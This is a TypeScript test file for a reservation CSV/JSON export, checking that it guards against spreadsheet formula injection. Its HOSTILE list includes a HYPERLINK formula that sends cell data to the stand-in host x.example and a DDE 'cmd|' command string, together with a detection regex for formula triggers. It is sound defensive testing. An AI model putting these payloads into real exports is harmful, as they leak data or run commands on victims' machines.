import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import fc from 'fast-check'
import { Client } from 'pg'
import { from } from 'pg-copy-streams'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { exportColumns } from '@/desk/exportRow'
import { csvLine } from '@/domain/csv'
import type { Locale } from '@/domain/status'
import { env } from '@/env'
import { aProperty, aStaff, at, freshPhone, type Staff } from '@/tests/support/house'
import { answerOf, booked, rest } from '@/tests/support/http'

/** Tables as somebody else's parser reads them: PostgreSQL's own COPY. */

const client = new Client({ connectionString: env.databaseUrl })
beforeAll(() => client.connect())
afterAll(() => client.end())

async function read(
  text: string,
  columns: number,
  separator: string,
): Promise<(string | null)[][]> {
  const names = Array.from({ length: columns }, (_, index) => `c${index}`)
  await client.query('drop table if exists read_back')
  await client.query(
    `create temp table read_back (line serial, ${names.map((name) => `${name} text`).join(', ')})`,
  )
  const copy = from(
    `copy read_back (${names.join(', ')}) from stdin with (format csv, delimiter '${separator}')`,
  )
  await pipeline(Readable.from([Buffer.from(text)]), client.query(copy))
  const { rows } = await client.query<{ cells: (string | null)[] }>(
    `select array[${names.join(', ')}] as cells from read_back order by line`,
  )
  return rows.map(({ cells }) => cells)
}

/** What a spreadsheet would run, or take apart, instead of showing it (OWASP, CSV injection). */
const RUN = /^[\s]*[=+\-@\t\r|]/

const HOSTILE = [
  '=HYPERLINK("http://x.example?"&A1,"Cliquez")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  ' \t=1+1',
  '"; =1+1; "',
  'Awa, dite "la Grande" ; =1',
]

test.each([
  ['fr', ';'],
  ['en', ','],
] as const)('hostile names come out whole, and none is run: %s', async (language, separator) => {
  const owner: Staff = await aStaff('proprietaire', 'Jean-Bosco Makosso')
  const property = await aProperty({ owners: [owner.id] })
  for (const [index, name] of HOSTILE.entries())
    await booked(property, {
      startsAt: at(3, `${String(9 + index).padStart(2, '0')}:00`),
      client: { name, phone: freshPhone() },
      note: `${name}\r\n${name}`,
    })
  const answer = await rest('GET', '/reservations/export?format=csv&sort=startsAt', {
    as: owner,
    headers: { 'Accept-Language': language },
  })
  const columns = exportColumns(language satisfies Locale)
  const [head, ...lines] = await read(answer.text.replace(/^\ufeff/, ''), columns.length, separator)
  expect(head).toEqual(columns)
  expect(lines).toHaveLength(HOSTILE.length)
  const [names, notes] = [4, 14].map((place) => lines.map((cells) => cells[place] ?? ''))
  expect(names?.map((name) => name.replace(/^'/, ''))).toEqual(HOSTILE.map((name) => name.trim()))
  expect(notes?.every((note, place) => note.includes(HOSTILE[place]?.trim() ?? '?'))).toBe(true)
  expect(lines.flat().filter((cell) => RUN.test(cell ?? ''))).toEqual([])
})

test('whatever the cells hold, they are read back as they were, in their places', async () => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .array(fc.constantFrom(...'=+-@|;,"\'\t\r\n a\\.'), { maxLength: 8 })
      .map((of) => of.join('')),
  )
  const cell = fc.oneof(
    text.map((value) => value.toWellFormed().replaceAll('\0', '')),
    fc.integer(),
    fc.constant(null),
  )
  const table = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 20 })
  await fc.assert(
    fc.asyncProperty(
      table,
      fc.constantFrom(';' as const, ',' as const),
      async (lines, separator) => {
        const csv = lines.map((cells) => csvLine(cells, separator)).join('')
        const seen = await read(csv, 3, separator)
        const expected = lines.map((cells) =>
          cells.map((value) => {
            if (typeof value !== 'string') return value === null ? null : String(value)
            // An empty text and no text are one empty cell.
            return value === '' ? null : RUN.test(value) ? `'${value}` : value
          }),
        )
        expect(seen).toEqual(expected)
      },
    ),
    { numRuns: 150 },
  )
})

/** Written past the program and its triggers: as many rows through it would take minutes. */
async function many(property: number, name: string, count: number, from: string): Promise<void> {
  await client.query('begin; set local session_replication_role = replica')
  const person = await client.query<{ id: number }>(
    `insert into clients (name, phone, locale) values ($1, $2, 'fr') returning id`,
    [name, freshPhone()],
  )
  await client.query(
    `insert into reservations (reference, kind, property_id, starts_at, ends_at, client_id,
       respond_by, awaiting_until, hold_until, request_key, sla_minutes, tracking_hash)
     select key, 'visite', $1, at, at + interval '30 minutes', $2, at, at, at, key, 30, key
     from generate_series(1, $3::int) n, lateral (select $4 || n as key,
       $5::timestamptz + n * interval '30 minutes' as at) made`,
    [property, person.rows[0]?.id, count, `${name} `, from],
  )
  await client.query('commit')
}

test('what comes in while a file is fetched neither repeats a line nor pushes one out', async () => {
  const owner = await aStaff('proprietaire', 'Albertine Bouanga')
  const property = await aProperty({ owners: [owner.id] })
  await many(property.id, 'Pendant', 250, '2031-01-01')
  const fetched = await answerOf('/reservations/export?format=json&sort=-startsAt', owner)
  const reader = fetched.body?.pipeThrough(new TextDecoderStream()).getReader()
  let text = (await reader?.read())?.value ?? ''
  await many(property.id, 'Nouvelle', 1, '2033-01-01')
  for (let part = await reader?.read(); part?.value; part = await reader?.read()) text += part.value
  // as: the shape of the file, of which its other tests speak.
  const references = (JSON.parse(text) as { reference: string }[]).map((row) => row.reference)
  expect([references.length, new Set(references).size]).toEqual([250, 250])
})

test('a file holds all that is found, more than a list shows, or none is made', async () => {
  const owner = await aStaff('proprietaire', 'Clémence Ngoma')
  const property = await aProperty({ owners: [owner.id] })
  await many(property.id, 'Deuxcents Etplus', 250, '2031-01-01')
  const found = (query: string) => rest('GET', `/reservations/export?${query}`, { as: owner })
  const file = await found('format=json&search=etplus')
  expect(JSON.parse(file.text)).toHaveLength(250)

  await many(property.id, 'Autres', 9_751, '2032-01-01')
  const refused = await found('format=csv')
  expect(refused.status).toBe(400)
  expect(refused.text).toContain('Plus de 10 000 réservations')
})
